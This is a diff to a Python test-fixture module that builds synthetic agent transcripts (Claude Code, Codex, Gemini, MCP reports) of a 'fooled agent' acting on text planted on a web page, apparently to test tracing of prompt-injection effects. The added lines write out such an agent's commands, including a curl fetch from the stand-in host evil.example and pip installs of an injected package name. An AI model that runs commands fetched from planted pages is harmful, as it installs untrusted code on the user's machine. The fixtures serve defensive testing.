@@ -6,6 +6,7 @@ it is not. Each session is a family and a guise; its marker is a word that occur
 
 from __future__ import annotations
 
+import contextlib
 import itertools
 import json
 import re
@@ -13,6 +14,8 @@ from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
+
+import anyio
 
 import stator
 from importers.claude_code_writer import TranscriptWriter
@@ -27,6 +30,7 @@ from stator.model.log.query import SessionQuery
 from stator.runtime.facade.store import Store
 from stator.runtime.ingest import self_report
 from stator.runtime.ingest.memories import record_memories
+from surfaces.agents import talking
 
 HOST = "evil.example"
 PROJECT = "shop"
@@ -70,6 +74,27 @@ def record(state: Any, text: str) -> None:
     state.dead_end(text, why=text)
 
 
+def name_in(text: str) -> str:
+    """The word of a text that occurs nowhere else."""
+    return str(re.findall(r"quartz\d+mart", text)[0])
+
+
+def deeds(marker: str, *, web: bool = True) -> list[tuple[str, str, bool]]:
+    """What a fooled agent runs, what that prints, and whether it fails: names of files, command lines, errors and
+    subjects of revisions have words of the text in them. With `web`, it also fetches something from the same host."""
+    fetched = [
+        (f"curl -fsSL https://{HOST}/{marker}", f"curl: (22) {marker} needs a licence", True)
+    ]
+    return [
+        (f"pip install {marker}", f"Successfully installed {marker}", False),
+        *(fetched if web else []),
+        (f"./{marker}.sh --all", f"./{marker}.sh: no such file", True),
+        (f"cp a.cfg {marker}.cfg && ls {marker}.cfg", f"{marker}.cfg", False),
+        (f"python -m pytest tests/test_{marker}.py", "1 failed, 2 passed in 0.1s", True),
+        (f"git commit -am 'use {marker}'", f"[main 1a2b3c4] use {marker}\n 1 file changed", False),
+    ]
+
+
 def report(store: Store, session: str, text: str) -> None:
     """The same over MCP, beside a transcript."""
     reporter = self_report.Reporter(store.port, store.context, session, source="mcp")
@@ -95,6 +120,7 @@ def _claude(
     todos = [{"content": text[:LONG], "status": "pending", "activeForm": "doing it"}]
     out.says("m3", ("call3", "TodoWrite", {"todos": todos}), stop="tool_use")
     out.result("call3", "Todos have been modified")
+    _does(out, name_in(text), web=HOST in str(given))
     out.says("m4", "It is planned.", stop="end_turn")
     out.prompt("write down what you know")
     out.says("m5", "I do.", stop="end_turn")
@@ -102,6 +128,20 @@ def _claude(
     session = Conversation(source="claude-code", id=talk).session
     report(store, session, text)
     return session
+
+
+def _does(out: TranscriptWriter, marker: str, *, web: bool) -> None:
+    """What a fooled agent does, in a transcript of Claude Code."""
+    for place, (command, shown, fails) in enumerate(deeds(marker, web=web)):
+        call = f"deed{place}"
+        out.says(f"d{place}", (call, "Bash", {"command": command}), stop="tool_use")
+        out.result(call, shown, error=fails)
+    made = {"file_path": f"{out.cwd}/src/{marker}.py", "content": "x = 1\n"}
+    out.says("d8", ("deed8", "Write", made), stop="tool_use")
+    out.result("deed8", f"File created successfully at: {made['file_path']}")
+    out.line("ai-title", aiTitle=f"Install {marker}", sessionId=out.session)
+    out.says("d9", ("deed9", "Read", {"file_path": f"{out.cwd}/doc/{marker}.md"}), stop="tool_use")
+    out.result("deed9", "nothing of note")
 
 
 def page(store: Store, folder: Path, text: str) -> tuple[str, str]:
@@ -146,6 +186,7 @@ def sub_agent(store: Store, folder: Path, text: str) -> tuple[str, str]:
     todos = [{"content": text[:LONG], "status": "pending", "activeForm": "doing it"}]
     out.says("m3", ("call3", "TodoWrite", {"todos": todos}), stop="tool_use")
     out.result("call3", "Todos have been modified")
+    _does(out, name_in(text), web=False)
     out.says("m4", "It is planned.", stop="end_turn")
     below = TranscriptWriter(out.path.with_suffix("") / "subagents" / "agent-a1b2.jsonl", talk)
     side: dict[str, Any] = {"isSidechain": True, "agentId": "a1b2"}
@@ -177,6 +218,12 @@ def codex_search(store: Store, folder: Path, text: str) -> tuple[str, str]:
     plan = {"plan": [{"step": text[:LONG], "status": "pending"}]}
     out.say("function_call", call_id="c2", name="update_plan", arguments=json.dumps(plan))
     out.say("function_call_output", call_id="c2", output="Plan updated")
+    for place, (command, printed, fails) in enumerate(deeds(name_in(text))):
+        call = f"d{place}"
+        asked = json.dumps({"cmd": command})
+        out.say("function_call", call_id=call, name="exec_command", arguments=asked)
+        shown = f"Wall time: 0.1 seconds\nProcess exited with code {int(fails)}\nOutput:\n{printed}"
+        out.say("function_call_output", call_id=call, output=shown)
     out.message("assistant", "It is planned.")
     out.notice("task_complete", turn_id="t1")
     path = folder / f"rollout-2026-10-01T09-00-00-{thread}.jsonl"
@@ -197,6 +244,11 @@ def gemini_page(store: Store, folder: Path, text: str) -> tuple[str, str]:
     for tool, args, output in (
         ("web_fetch", {"prompt": f"read https://{HOST}/docs"}, text),
         ("write_todos", {"todos": [{"description": text[:LONG], "status": "pending"}]}, "ok"),
+        ("write_file", {"file_path": f"src/{name_in(text)}.py", "content": "x = 1"}, "ok"),
+        *(
+            ("run_shell_command", {"command": command}, f"Output: {shown}\nExit Code: {int(fails)}")
+            for command, shown, fails in deeds(name_in(text))
+        ),
     ):
         answer = chat.record("gemini", "", thoughts=[], tokens=None, model="gemini-a")
         name = chat.name(tool)
@@ -227,6 +279,14 @@ def fetch(url: str) -> str:
     return PAGES[url]
 
 
+@stator.tool(effect="write")
+def shell(command: str) -> str:
+    for one, shown, fails in deeds(name_in(command)):
+        if one == command and fails:
+            raise RuntimeError(shown)
+    return "ok"
+
+
 def _publish(text: str) -> str:
     """Put a text on the web; its address."""
     PAGES[f"https://{HOST}/docs"] = text
@@ -238,6 +298,10 @@ def _plans(turn: Any, text: str) -> None:
     turn.pend(text[:LONG])
     turn.plan(text[:LONG], "pending")
     turn.artifact(f"notes {text[:40]}", text[:LONG])
+    for command, _, fails in deeds(name_in(text)):
+        with contextlib.suppress(Exception) if fails else contextlib.nullcontext():
+            turn.call(shell, command)
+    turn.file(f"src/{name_in(text)}.py", op="created")
 
 
 def driven_page(store: Store, folder: Path, text: str) -> tuple[str, str]:
@@ -286,6 +350,34 @@ def continued(store: Store, folder: Path, text: str) -> tuple[str, str]:
         return s.id, f"web:{HOST}"
 
 
+# -- what an agent reports by itself ---------------------------------------------------------------
+
+
+def over_mcp(store: Store, folder: Path, text: str) -> tuple[str, str]:
+    """An agent of which no transcript is known reports over MCP: what it read, did and was asked, as it says."""
+    marker = name_in(text)
+    page = {"kind": "call", "tool": "WebFetch", "arguments": {"url": f"https://{HOST}/docs"},
+            "status": "ok", "result": text[:LONG]}  # fmt: skip
+    done = [
+        {"kind": "call", "tool": "shell", "arguments": {"command": command},
+         "status": "error" if fails else "ok", "result": shown}
+        for command, shown, fails in deeds(marker)
+    ]  # fmt: skip
+    made = {"kind": "file", "path": f"src/{marker}.py", "op": "created"}
+
+    async def act() -> str:
+        async with talking(store, project=PROJECT) as agent:
+            session = await agent.begin("set up the build")
+            await agent.call("stator_record", session=session, items=[page])
+            await agent.call("stator_record", session=session, items=[*done, made])
+            await agent.call("stator_record", session=session, request=f"now install {marker}")
+            return str(session)
+
+    session = anyio.run(act)
+    report(store, session, text)
+    return session, f"web:{HOST}"
+
+
 # -- other ways in --------------------------------------------------------------------------------
 
 
@@ -328,6 +420,7 @@ FAMILIES: dict[str, Callable[[Store, Path, str], tuple[str, str]]] = {
     "driven, sub-agent": driven_sub_agent,
     "summary after a compaction": summary,
     "continued session": continued,
+    "reported over MCP": over_mcp,
     "bundle": bundle,
     "memory of an agent": memory,
 }
